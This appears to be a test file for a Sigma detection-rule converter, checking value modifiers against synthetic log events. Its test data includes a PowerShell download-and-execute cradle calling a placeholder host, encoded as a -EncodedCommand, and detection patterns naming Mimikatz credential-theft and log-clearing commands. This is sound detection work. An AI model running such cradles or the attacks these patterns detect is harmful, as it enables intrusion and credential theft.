// The value modifiers of the specification's appendix and its rules document, each checked
// on synthetic events: what must match and what must not.
import { describe, expect, it } from 'vitest';
import { base64 as b64, utf16 } from '../../../src/rules/sigma/encoding.ts';
import { convertOne, eventData as ev, matching, sigmaRule } from './helpers.ts';

const on = (detection: string, docs: Record<string, unknown>[]) =>
  matching(sigmaRule(detection), docs.map(ev));

describe('string matching', () => {
  it('is case-insensitive and whole-value by default', () => {
    const docs = [{ F: 'EvilService' }, { F: 'evilservice' }, { F: 'EvilService2' }, {}];
    expect(on('sel:\n  F: EVILSERVICE\ncondition: sel', docs)).toEqual([0, 1]);
  });

  it('contains, startswith, endswith', () => {
    const docs = [{ F: 'a cmd.exe b' }, { F: 'cmd.exe b' }, { F: 'a cmd.exe' }];
    expect(on("sel:\n  F|contains: 'cmd.exe'\ncondition: sel", docs)).toEqual([0, 1, 2]);
    expect(on("sel:\n  F|startswith: 'cmd.exe'\ncondition: sel", docs)).toEqual([1]);
    expect(on("sel:\n  F|endswith: 'cmd.exe'\ncondition: sel", docs)).toEqual([2]);
  });

  it('ORs a list of values, and ANDs them with all', () => {
    const docs = [{ F: 'x -a' }, { F: 'x -b' }, { F: 'x -a -b' }];
    expect(on("sel:\n  F|contains:\n    - '-a'\n    - '-b'\ncondition: sel", docs)).toEqual([
      0, 1, 2,
    ]);
    expect(on("sel:\n  F|contains|all:\n    - '-a'\n    - '-b'\ncondition: sel", docs)).toEqual([
      2,
    ]);
  });

  it('ANDs the fields of a map and ORs the maps of a list', () => {
    const docs = [{ A: '1', B: '2' }, { A: '1' }, { B: '3' }];
    expect(on("sel:\n  A: '1'\n  B: '2'\ncondition: sel", docs)).toEqual([0]);
    expect(on("sel:\n  - A: '1'\n  - B: '3'\ncondition: sel", docs)).toEqual([0, 1, 2]);
  });

  it('reads * and ? as wildcards, and \\* \\? \\\\ as escapes', () => {
    const docs = [
      { F: 'prog1.exe' },
      { F: 'prog12.exe' },
      { F: 'a*b' },
      { F: 'axb' },
      { F: 'a\\b' },
      { F: 'a\\xyz' },
    ];
    expect(on("sel:\n  F: 'prog?.exe'\ncondition: sel", docs)).toEqual([0]);
    expect(on("sel:\n  F: 'prog*.exe'\ncondition: sel", docs)).toEqual([0, 1]);
    expect(on("sel:\n  F: 'a\\*b'\ncondition: sel", docs)).toEqual([2]);
    expect(on("sel:\n  F: 'a\\b'\ncondition: sel", docs)).toEqual([4]);
    expect(on("sel:\n  F: 'a\\\\*'\ncondition: sel", docs)).toEqual([4, 5]);
  });

  it('cased matches case-sensitively', () => {
    const docs = [{ F: 'Foo' }, { F: 'foo' }];
    expect(on("sel:\n  F|cased: 'Foo'\ncondition: sel", docs)).toEqual([0]);
  });

  it('windash accepts every dash a Windows command line takes', () => {
    const docs = [
      { F: 'ps -enc x' },
      { F: 'ps /enc x' },
      { F: 'ps \u2013enc x' },
      { F: 'ps \u2014enc x' },
      { F: 'ps \u2015enc x' },
      { F: 'ps enc x' },
    ];
    expect(on("sel:\n  F|windash|contains: ' -enc '\ncondition: sel", docs)).toEqual([
      0, 1, 2, 3, 4,
    ]);
  });

  it('neq negates', () => {
    expect(on("sel:\n  F|neq: 'a'\ncondition: sel", [{ F: 'a' }, { F: 'b' }])).toEqual([1]);
  });
});

describe('regular expressions (re)', () => {
  it('searches unanchored and case-sensitively, with the i, m and s flags', () => {
    const docs = [{ F: 'xx Invoke-Mimikatz yy' }, { F: 'invoke-mimikatz' }, { F: 'line1\nInvoke' }];
    expect(on("sel:\n  F|re: 'Invoke-\\w+'\ncondition: sel", docs)).toEqual([0]);
    expect(on("sel:\n  F|re|i: 'invoke-\\w+'\ncondition: sel", docs)).toEqual([0, 1]);
    expect(on("sel:\n  F|re: '^Invoke'\ncondition: sel", docs)).toEqual([]);
    expect(on("sel:\n  F|re|m: '^Invoke'\ncondition: sel", docs)).toEqual([2]);
    expect(on("sel:\n  F|re: 'line1.Invoke'\ncondition: sel", docs)).toEqual([]);
    expect(on("sel:\n  F|re|s: 'line1.Invoke'\ncondition: sel", docs)).toEqual([2]);
  });

  it('keeps PCRE literals Lucene would read as operators', () => {
    const docs = [{ F: 'a"b@c#d<e>f~g&h' }];
    expect(on("sel:\n  F|re: 'a\"b@c#d<e>f~g&h$'\ncondition: sel", docs)).toEqual([0]);
  });

  it('anchors each alternative of a group that is the whole pattern', () => {
    const docs = [{ F: 'abcd' }, { F: 'abcdefgh' }, { F: 'abcde' }, { F: 'x abcd' }];
    expect(on("sel:\n  F|re: '(^[a-z]{4}$)|(^[a-z]{8}$)'\ncondition: sel", docs)).toEqual([0, 1]);
    expect(on("sel:\n  F|re: '(?:^x|e$)'\ncondition: sel", docs)).toEqual([2, 3]);
  });

  it('refuses what Lucene lacks, naming it and its position', () => {
    const o = convertOne(sigmaRule("sel:\n  F|re: 'a(?=b)'\ncondition: sel"));
    expect(o).toMatchObject({ status: 'cannot-run', construct: 're' });
    expect(o.status === 'cannot-run' && o.reason).toContain('position 2');
  });
});

describe('encodings', () => {
  const command = 'IEX (New-Object Net.WebClient).DownloadString("http://x")';

  it('base64 matches the encoded value', () => {
    expect(on("sel:\n  F|base64: 'cmd'\ncondition: sel", [{ F: 'Y21k' }, { F: 'cmd' }])).toEqual([
      0,
    ]);
  });

  it('base64offset|contains finds the value at any of the three byte offsets', () => {
    const docs = ['', 'a', 'ab', 'abc'].map((p) => ({ F: b64(p + 'http://evil') }));
    expect(on("sel:\n  F|base64offset|contains: 'http://'\ncondition: sel", docs)).toEqual([
      0, 1, 2, 3,
    ]);
  });

  it('utf16le|base64offset|contains finds text inside a PowerShell -EncodedCommand', () => {
    const docs = [
      { F: `powershell -enc ${b64(utf16(command, true))}` },
      { F: `powershell -enc ${b64(command)}` },
    ];
    expect(
      on("sel:\n  F|wide|base64offset|contains: 'Net.WebClient'\ncondition: sel", docs),
    ).toEqual([0]);
    expect(
      on("sel:\n  F|utf16le|base64offset|contains: 'Net.WebClient'\ncondition: sel", docs),
    ).toEqual([0]);
    expect(on("sel:\n  F|base64offset|contains: 'Net.WebClient'\ncondition: sel", docs)).toEqual([
      1,
    ]);
  });

  it('utf16be and utf16 (with its byte order mark) encode as the appendix says', () => {
    expect(utf16('cmd', false)).toBe('\0c\0m\0d');
    const docs = [{ F: b64('\xff\xfe' + utf16('cmd', true)) }];
    expect(on("sel:\n  F|utf16|base64: 'cmd'\ncondition: sel", docs)).toEqual([0]);
  });
});

describe('numbers, networks, existence, null, field references', () => {
  it('gt, gte, lt, lte compare numbers (also numeric strings)', () => {
    const docs = [{ N: 5 }, { N: '10' }, { N: 15 }];
    expect(on('sel:\n  N|gt: 5\ncondition: sel', docs)).toEqual([1, 2]);
    expect(on('sel:\n  N|gte: 10\ncondition: sel', docs)).toEqual([1, 2]);
    expect(on('sel:\n  N|lt: 10\ncondition: sel', docs)).toEqual([0]);
    expect(on('sel:\n  N|lte: 10\ncondition: sel', docs)).toEqual([0, 1]);
  });

  it('numbers match numeric strings as Windows writes them', () => {
    expect(
      on('sel:\n  N: 4688\ncondition: sel', [{ N: '4688' }, { N: 4688 }, { N: '46880' }]),
    ).toEqual([0, 1]);
  });

  it('cidr matches IPv4 and IPv6 networks', () => {
    const docs = [{ IP: '10.1.2.3' }, { IP: '192.168.1.1' }, { IP: 'fe80::1' }];
    expect(on('sel:\n  IP|cidr:\n    - 10.0.0.0/8\n    - fe80::/10\ncondition: sel', docs)).toEqual(
      [0, 2],
    );
  });

  it('exists true and false', () => {
    const docs = [{ F: 'x' }, {}];
    expect(on('sel:\n  F|exists: true\ncondition: sel', docs)).toEqual([0]);
    expect(on('sel:\n  F|exists: false\ncondition: sel', docs)).toEqual([1]);
  });

  it('null matches a missing field; not null its presence', () => {
    const docs = [{ A: '1', F: 'x' }, { A: '1' }];
    expect(on('sel:\n  A: 1\nf:\n  F: null\ncondition: sel and f', docs)).toEqual([1]);
    expect(on('sel:\n  A: 1\nf:\n  F: null\ncondition: sel and not f', docs)).toEqual([0]);
  });

  it("'' matches an empty or left-out field", () => {
    expect(on("sel:\n  F: ''\ncondition: sel", [{ F: '' }, {}, { F: 'x' }])).toEqual([0, 1]);
  });

  it('fieldref compares two fields of the same event, ignoring case', () => {
    const docs = [
      { A: 'Admin', B: 'admin' },
      { A: 'Admin', B: 'Bob' },
    ];
    expect(on('sel:\n  A|fieldref: B\ncondition: sel', docs)).toEqual([0]);
    expect(on('sel:\n  A|fieldref|neq: B\ncondition: sel', docs)).toEqual([1]);
  });

  it('expand placeholders cannot run without a placeholder table', () => {
    const o = convertOne(sigmaRule("sel:\n  F|expand: '%Servers%'\ncondition: sel"));
    expect(o).toMatchObject({ status: 'cannot-run', construct: 'expand' });
  });

  it('time-part modifiers cannot run', () => {
    const o = convertOne(sigmaRule('sel:\n  T|hour: 3\ncondition: sel'));
    expect(o).toMatchObject({ status: 'cannot-run', construct: 'hour' });
  });

  it('an unknown modifier is invalid, pointing at its line', () => {
    const o = convertOne(sigmaRule("sel:\n  F|sometimes: 'x'\ncondition: sel"));
    expect(o).toMatchObject({
      status: 'invalid',
      line: 7,
      message: expect.stringContaining('sometimes'),
    });
  });
});

describe('keywords', () => {
  it('search the event text fields; |all needs every keyword', () => {
    const docs = [
      { Data: 'event::clear was run' },
      { param1: 'x kerberos::golden y' },
      { Other: 'event::clear' },
    ];
    expect(
      on("keywords:\n  - 'event::clear'\n  - 'kerberos::golden'\ncondition: keywords", docs),
    ).toEqual([0, 1]);
    expect(
      on("keywords:\n  '|all':\n    - 'event::'\n    - 'run'\ncondition: keywords", docs),
    ).toEqual([0]);
  });
});
